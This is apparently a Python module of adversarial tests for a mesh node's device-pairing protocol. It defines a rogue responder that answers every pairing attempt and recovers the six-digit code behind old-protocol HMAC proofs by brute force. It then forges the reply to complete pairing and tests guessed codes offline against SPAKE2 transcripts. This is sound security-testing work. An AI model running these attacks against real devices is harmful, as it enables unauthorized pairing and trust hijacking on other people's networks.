"""Pairing attacks: a responder that answers every pairing attempt, and a joiner that guesses.

Behaviour ``pair_responder``: this node answers any pairing exchange as if it
had shown a code — on the current protocol (it plays the shower with a guessed
code: its one online guess) and on the old ``/meshagent/pair/1.0.0`` (HMAC proofs
keyed by the six-digit code). It records everything the joiner sends. On the
old protocol it recovers the code from the joiner's proof by brute force over
all 10^6 codes, forges the shower's proof, and so completes the pairing.

Attacks:

``pair_loot``   ``{"candidates": [secret, ...]}`` — what the responder received;
                for each exchange, whether anything in it depends on the
                code-derived key, and which candidates it confirms offline.
``pair_guess``  ``{"peer": id, "secret": guess, "candidates": [...]}`` — one
                exchange as joiner with a guessed secret (one online guess),
                then the offline test of every candidate against the shower's
                answer.

The offline test is the best an attacker can do with SPAKE2: for a candidate
``c`` it recomputes the key with its own secret scalar as if the code were ``c``
(``x·(Y − c·N)``, or ``y·(X − c·M)`` as shower), hashed with the messages that
really went over the wire, and checks the other side's key confirmation. Each
candidate costs two scalar multiplications in pure Python, so the tests hand
it the true code among a few others instead of all 10^6 (if the true code
does not confirm, no other can).
"""

from __future__ import annotations

import hashlib
import hmac
import os
import time
from typing import Any, Final

import trio

from meshagent.node.pairing import PairingService
from meshagent.protocol import codec

V1_PROTOCOL: Final = "/meshagent/pair/1.0.0"
LOOT: list[dict[str, Any]] = []
"""One entry per exchange the responder took part in."""


# --- the old protocol: the HMAC proof gives the code away -----------------------------------------


def _v1_proof(code: str, role: bytes, shower: str, joiner: str, shower_nonce: bytes, joiner_nonce: bytes) -> bytes:
    msg = b"meshagent/pair/1\x00" + role + b"\x00" + shower.encode() + b"\x00" + joiner.encode() + b"\x00" + shower_nonce + joiner_nonce
    return hmac.digest(code.encode(), msg, "sha256")


def brute_force_v1(proof: bytes, shower: str, joiner: str, shower_nonce: bytes, joiner_nonce: bytes) -> str | None:
    """The code behind a joiner's v1 proof, by trying all 10^6 codes offline."""
    msg = b"meshagent/pair/1\x00joiner\x00" + shower.encode() + b"\x00" + joiner.encode() + b"\x00" + shower_nonce + joiner_nonce
    for n in range(1_000_000):
        code = f"{n:06d}"
        if hmac.compare_digest(hmac.digest(code.encode(), msg, "sha256"), proof):
            return code
    return None


async def _respond_v1(service: PairingService, stream: Any) -> None:
    me, joiner = service._host.peer_id, stream.peer
    entry: dict[str, Any] = {"protocol": V1_PROTOCOL, "joiner": joiner, "received": [], "key_dependent": False}
    LOOT.append(entry)
    first = codec.decode_map(await stream.receive_frame(4096))
    entry["received"].append("request")
    my_nonce = os.urandom(16)
    await stream.send_frame(codec.encode({"t": "rep", "nonce": my_nonce, "proof": b"", "ok": True, "name": "rogue", "reason": ""}))
    second = codec.decode_map(await stream.receive_frame(4096))
    entry["received"].append("proof")
    entry["key_dependent"] = True
    started = time.perf_counter()
    code = await trio.to_thread.run_sync(brute_force_v1, second["proof"], me, joiner, my_nonce, first["nonce"])
    entry.update(recovered=code, brute_force_s=round(time.perf_counter() - started, 2))
    if code is None:
        await stream.send_frame(codec.encode({"t": "rep", "nonce": my_nonce, "proof": b"", "ok": False, "name": "", "reason": "wrong code"}))
    else:
        forged = _v1_proof(code, b"shower", me, joiner, my_nonce, first["nonce"])
        await stream.send_frame(codec.encode({"t": "rep", "nonce": my_nonce, "proof": forged, "ok": True, "name": "rogue", "reason": ""}))
        entry["forged"] = True
    await stream.close()


# --- the current protocol: SPAKE2 ----------------------------------------------------------------


def offline_matches(side: str, scalar: int, sent: bytes, received: bytes, joiner: str, shower: str,
                    joiner_name: str, shower_name: str, confirm: bytes, candidates: list[str]) -> list[str]:
    """Candidate secrets whose recomputed key reproduces ``confirm``, the other side's key confirmation.

    ``side`` is the attacker's SPAKE2 side (``A`` joiner, ``B`` shower), ``scalar``
    its own secret scalar, ``sent``/``received`` the two elements that went over
    the wire.
    """
    from spake2.spake2 import DefaultParams as params
    from spake2.spake2 import finalize_SPAKE2

    from meshagent.protocol import pairing

    group = params.group
    theirs = group.bytes_to_element(received)
    x_msg, y_msg = (sent, received) if side == "A" else (received, sent)
    blinding = params.N if side == "A" else params.M
    role = b"shower" if side == "A" else b"joiner"
    probe = pairing.Joiner("000000", me=joiner, shower=shower, name=joiner_name, random_bytes=bytes(64))
    probe._x, probe._y = x_msg, y_msg
    transcript = probe._transcript(joiner_name, shower_name)
    found = []
    for candidate in candidates:
        password = pairing._password(candidate)
        k_elem = theirs.add(blinding.scalarmult(-group.password_to_scalar(password))).scalarmult(scalar)
        probe._key = finalize_SPAKE2(joiner.encode(), shower.encode(), x_msg, y_msg, k_elem.to_bytes(), password)
        if hmac.compare_digest(probe._confirmation(role, transcript), confirm):
            found.append(candidate)
    return found


def _guess() -> str:
    return f"{int.from_bytes(os.urandom(4), 'big') % 1_000_000:06d}"


async def _respond_v2(service: PairingService, stream: Any) -> None:
    from meshagent.protocol import pairing

    me, joiner = service._host.peer_id, stream.peer
    entry: dict[str, Any] = {"protocol": pairing.PAIR_PROTOCOL, "joiner": joiner, "received": [], "key_dependent": False}
    LOOT.append(entry)
    first = await stream.receive_frame(pairing.MAX_MESSAGE)
    start = pairing.decode(first)
    entry["received"].append(type(start).__name__)
    guess = _guess()
    shower = pairing.Shower(guess, me=me, joiner=joiner, name="rogue", random_bytes=os.urandom(64))
    answer = shower.receive(first)
    assert answer is not None
    await stream.send_frame(answer)
    with trio.move_on_after(10):
        frame = await stream.receive_frame(pairing.MAX_MESSAGE)
        reply = pairing.decode(frame)
        entry["received"].append(type(reply).__name__)
        if isinstance(reply, pairing.Confirm):
            entry["key_dependent"] = True
            entry["spake"] = dict(scalar=shower._spake.xy_scalar, sent=shower._y, received=shower._x,
                                  joiner_name=shower.peer_name, confirm=reply.confirm)
        last = shower.receive(frame)
        if shower.state is pairing.State.CONFIRMED:  # the one online guess was right
            service._trust.add(joiner, shower.peer_name)
            last = shower.done()
            entry["paired"] = True
        if last is not None:
            await stream.send_frame(last)
    entry["guess"] = guess
    entry["over"] = True
    await stream.close()


def pair_responder() -> None:
    """Answer every pairing exchange, on the current and the old protocol, and keep what comes."""
    real_install = PairingService.install

    def install(self: PairingService) -> dict[str, Any]:
        ops = real_install(self)
        from meshagent.protocol import pairing

        if hasattr(pairing, "Shower"):
            self._host.set_handler(pairing.PAIR_PROTOCOL, lambda stream: _respond_v2(self, stream))
        self._host.set_handler(V1_PROTOCOL, lambda stream: _respond_v1(self, stream))
        return ops

    PairingService.install = install  # type: ignore[method-assign]


# --- attacks ---------------------------------------------------------------------------------


async def pair_loot(node: Any, params: dict[str, Any]) -> dict[str, Any]:
    candidates = [str(c) for c in params.get("candidates", [])]
    me = node.identity.peer_id
    out = []
    for entry in LOOT:
        item = {k: v for k, v in entry.items() if k != "spake"}
        if "spake" in entry:
            s = entry["spake"]
            item["offline_matches"] = await trio.to_thread.run_sync(lambda: offline_matches(
                "B", s["scalar"], s["sent"], s["received"], entry["joiner"], me, s["joiner_name"], "rogue",
                s["confirm"], candidates))
        out.append(item)
    return {"exchanges": out}


async def pair_guess(node: Any, params: dict[str, Any]) -> dict[str, Any]:
    """One exchange as joiner with a guessed secret, then every candidate tested offline against the answer."""
    from meshagent.protocol import pairing

    peer, guess = str(params["peer"]), str(params.get("secret") or _guess())
    candidates = [str(c) for c in params.get("candidates", [])]
    me = node.identity.peer_id
    joiner = pairing.Joiner(guess, me=me, shower=peer, name="rogue", random_bytes=os.urandom(64))
    result: dict[str, Any] = {"guess": guess, "paired": False, "refused": None}
    with trio.fail_after(15):
        stream = await node.host.open_stream(peer, pairing.PAIR_PROTOCOL)
        try:
            await stream.send_frame(joiner.start())
            answer_frame = await stream.receive_frame(pairing.MAX_MESSAGE)
            answer = pairing.decode(answer_frame)
            reply = joiner.receive(answer_frame)
            if reply is not None:
                await stream.send_frame(reply)
            if joiner.state is pairing.State.CONFIRMED:
                joiner.receive(await stream.receive_frame(pairing.MAX_MESSAGE))
        finally:
            await stream.close()
    result["paired"] = joiner.state is pairing.State.PAIRED
    result["refused"] = str(joiner.reason) if joiner.reason else None
    if isinstance(answer, pairing.Answer) and candidates:
        started = time.perf_counter()
        result["offline_matches"] = await trio.to_thread.run_sync(lambda: offline_matches(
            "A", joiner._spake.xy_scalar, joiner._x, answer.element, me, peer, "rogue", answer.name, answer.confirm,
            candidates))
        result["seconds_per_candidate"] = (time.perf_counter() - started) / len(candidates)
    return result


BEHAVIOURS = {"pair_responder": pair_responder}
ATTACKS = {"pair_loot": pair_loot, "pair_guess": pair_guess}
